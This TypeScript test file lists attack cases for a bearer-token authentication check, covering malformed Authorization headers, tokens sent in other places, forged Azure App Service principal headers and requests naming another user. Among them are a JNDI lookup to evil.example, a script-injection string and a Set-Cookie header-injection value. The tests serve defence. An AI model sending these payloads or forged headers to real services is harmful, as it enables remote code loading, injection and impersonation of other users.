/** Where and how the token is sent (RFC 6750 §2, RFC 9110 §11.4). */
import { DEMO_USERS } from '../../../dev/entra/directory.ts';
import { type Expected, INVALID, MALFORMED, MISSING } from '../outcome.ts';
import type { AttackRequest } from '../target.ts';
import { type AttackCase, bearer } from './attackCase.ts';

const BRUNO = DEMO_USERS[1];

const header = (
  name: string,
  authorization: ((valid: string) => string) | undefined,
  expected: Expected,
): AttackCase => ({
  name: `Authorization: ${name}`,
  request: ({ signed, claims }) => ({ authorization: authorization?.(signed(claims())) }),
  expected,
});

const headers: AttackCase[] = [
  header('none', undefined, MISSING),
  header('empty', () => '', MISSING),
  header('blank', () => '   ', MISSING),
  header('Bearer', (valid) => `Bearer ${valid}`, 'answered'),
  header('bearer', (valid) => `bearer ${valid}`, 'answered'),
  header('BEARER', (valid) => `BEARER ${valid}`, 'answered'),
  header('bEaReR', (valid) => `bEaReR ${valid}`, 'answered'),
  header('two spaces', (valid) => `Bearer  ${valid}`, 'answered'),
  header('spaces around', (valid) => `  Bearer ${valid}  `, 'answered'),
  header('a tab instead of the space', (valid) => `Bearer\t${valid}`, INVALID),
  header('a tab after the space', (valid) => `Bearer \t${valid}`, INVALID),
  header('a vertical tab instead of the space', (valid) => `Bearer\v${valid}`, INVALID),
  header('a no-break space instead of the space', (valid) => `Bearer\u00a0${valid}`, INVALID),
  header('a no-break space behind the token', (valid) => `Bearer ${valid}\u00a0`, INVALID),
  header('a form feed behind the token', (valid) => `Bearer ${valid}\f`, INVALID),
  header('the scheme alone', () => 'Bearer', INVALID),
  header('the scheme and spaces', () => 'Bearer   ', INVALID),
  header('no space', (valid) => `Bearer${valid}`, MISSING),
  header('a colon after the scheme', (valid) => `Bearer: ${valid}`, MISSING),
  header('an equals sign after the scheme', (valid) => `Bearer=${valid}`, MISSING),
  header('the token without a scheme', (valid) => valid, MISSING),
  header('the scheme twice', (valid) => `Bearer Bearer ${valid}`, INVALID),
  header('the scheme behind the token', (valid) => `${valid} Bearer`, MISSING),
  header('a word behind the token', (valid) => `Bearer ${valid} x`, INVALID),
  header('Basic', () => 'Basic dXNlcjpwYXNz', MISSING),
  header('Basic with the token', (valid) => `Basic ${valid}`, MISSING),
  header('DPoP', (valid) => `DPoP ${valid}`, MISSING),
  header('PoP', (valid) => `PoP ${valid}`, MISSING),
  header('Negotiate', () => 'Negotiate YII=', MISSING),
  header('a scheme that begins alike', (valid) => `BearerX ${valid}`, MISSING),
  header('a scheme that ends alike', (valid) => `XBearer ${valid}`, MISSING),
  header('a scheme with a Cyrillic letter, as UTF-8', (valid) => `\u00d0\u0092earer ${valid}`, MISSING),
  // One credential of another scheme, whose parameters happen to have commas between them.
  header(
    'Digest with its parameters',
    () => 'Digest username="adele", realm="stead", response="00"',
    MISSING,
  ),
  header('two, the same', (valid) => `Bearer ${valid}, Bearer ${valid}`, MALFORMED),
  header('two, joined without a space', (valid) => `Bearer ${valid},Bearer ${valid}`, MALFORMED),
  header('two, the first rubbish', (valid) => `Bearer x, Bearer ${valid}`, MALFORMED),
  header('two, the second rubbish', (valid) => `Bearer ${valid}, Bearer x`, MALFORMED),
  header('two, the second empty', (valid) => `Bearer ${valid}, `, MALFORMED),
  header('two, the first empty', (valid) => `, Bearer ${valid}`, MALFORMED),
  header('two, Basic first', (valid) => `Basic dXNlcjpwYXNz, Bearer ${valid}`, MALFORMED),
  header('two, Basic second', (valid) => `Bearer ${valid}, Basic dXNlcjpwYXNz`, MALFORMED),
  header('three', (valid) => `Bearer ${valid}, Bearer ${valid}, Bearer ${valid}`, MALFORMED),
  header('two tokens under one scheme', (valid) => `Bearer ${valid},${valid}`, MALFORMED),
  header('two tokens with a space between', (valid) => `Bearer ${valid} ${valid}`, INVALID),
  header('two with a semicolon between', (valid) => `Bearer ${valid}; Bearer ${valid}`, INVALID),
  header('Latin-1 in the token', (valid) => `Bearer ${valid}\u00e9`, INVALID),
  header('UTF-8 in the token', (valid) => `Bearer ${valid}\u00c3\u00a9`, INVALID),
  header('the highest byte alone', () => 'Bearer \u00ff', INVALID),
  header('a control character in the token', (valid) => `Bearer ${valid}\u0001`, INVALID),
  header('DEL in the token', (valid) => `Bearer ${valid}\u007f`, INVALID),
  header('an escape sequence', () => 'Bearer \u001b[31mred', INVALID),
  header('a look-up for a log to follow', () => `Bearer \${jndi:ldap://evil.example/a}`, INVALID),
  header('markup', () => 'Bearer <script>alert(1)</script>', INVALID),
  header('a quote and a header of its own', () => 'Bearer x" Set-Cookie: a=b', INVALID),
  header('"null"', () => 'Bearer null', INVALID),
  header('"undefined"', () => 'Bearer undefined', INVALID),
  header('"[object Object]"', () => 'Bearer [object Object]', INVALID),
];

const elsewhere = (
  name: string,
  request: (valid: string) => AttackRequest,
  expected: Expected = MISSING,
): AttackCase => ({
  name,
  request: ({ signed, claims }) => request(signed(claims())),
  expected,
});

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
/** App Service's own sign-in describes its users so; anybody can send it where that is switched off. */
const PRINCIPAL = Buffer.from(
  JSON.stringify({ auth_typ: 'aad', claims: [{ typ: 'oid', val: BRUNO.oid }] }),
).toString('base64');

const places: AttackCase[] = [
  elsewhere('query: access_token alone', (valid) => ({ query: { access_token: valid } })),
  elsewhere('query: Authorization alone', (valid) => ({ query: { authorization: `Bearer ${valid}` } })),
  elsewhere('query: code alone, as a function key', (valid) => ({ query: { code: valid } })),
  elsewhere(
    'query: a bad access_token beside a good header',
    (valid) => ({ ...bearer(valid), query: { access_token: 'x' } }),
    'answered',
  ),
  elsewhere(
    'query: a good access_token beside a bad header',
    (valid) => ({ ...bearer('x'), query: { access_token: valid } }),
    INVALID,
  ),
  elsewhere('body: a form', (valid) => ({ method: 'POST', headers: FORM, body: `access_token=${valid}` })),
  elsewhere('body: JSON', (valid) => ({
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ access_token: valid, authorization: `Bearer ${valid}` }),
  })),
  elsewhere(
    'body: a bad access_token beside a good header',
    (valid) => ({ ...bearer(valid), method: 'POST', headers: FORM, body: 'access_token=x' }),
    'answered',
  ),
  elsewhere('route: the token as a parameter', (valid) => ({ params: { authorization: `Bearer ${valid}` } })),
  ...[
    'Proxy-Authorization',
    'X-Authorization',
    'X-Forwarded-Authorization',
    'X-Access-Token',
    'X-MS-TOKEN-AAD-ACCESS-TOKEN',
    'Sec-WebSocket-Protocol',
  ].map((name) =>
    elsewhere(`header: ${name} alone`, (valid) => ({ headers: { [name]: `Bearer ${valid}` } })),
  ),
  elsewhere('header: Cookie alone', (valid) => ({ headers: { cookie: `access_token=${valid}` } })),
  elsewhere('header: X-MS-CLIENT-PRINCIPAL alone', () => ({
    headers: { 'x-ms-client-principal': PRINCIPAL },
  })),
  elsewhere('header: X-MS-CLIENT-PRINCIPAL-ID alone', () => ({
    headers: { 'x-ms-client-principal-id': BRUNO.oid, 'x-ms-client-principal-name': BRUNO.upn },
  })),
  elsewhere('header: x-functions-key alone', () => ({ headers: { 'x-functions-key': 'master' } })),
];

/** Somebody else is named beside Adele's token. */
const named: AttackCase[] = [
  elsewhere(
    'user: another named in the query',
    (valid) => ({
      ...bearer(valid),
      query: { userId: `${BRUNO.tid}/${BRUNO.oid}`, oid: BRUNO.oid, tid: BRUNO.tid, upn: BRUNO.upn },
    }),
    'answered',
  ),
  elsewhere(
    'user: another named in the path',
    (valid) => ({ ...bearer(valid), params: { userId: BRUNO.oid, oid: BRUNO.oid, id: BRUNO.oid } }),
    'answered',
  ),
  elsewhere(
    'user: another named in the body',
    (valid) => ({
      ...bearer(valid),
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ userId: `${BRUNO.tid}/${BRUNO.oid}`, oid: BRUNO.oid }),
    }),
    'answered',
  ),
  elsewhere(
    'user: another named in headers',
    (valid) => ({
      ...bearer(valid),
      headers: {
        'x-user-id': BRUNO.oid,
        'x-ms-client-principal': PRINCIPAL,
        'x-ms-client-principal-id': BRUNO.oid,
        'x-anchormailbox': `oid:${BRUNO.oid}@${BRUNO.tid}`,
      },
    }),
    'answered',
  ),
];

export const authorizationCases: readonly AttackCase[] = [...headers, ...places, ...named];
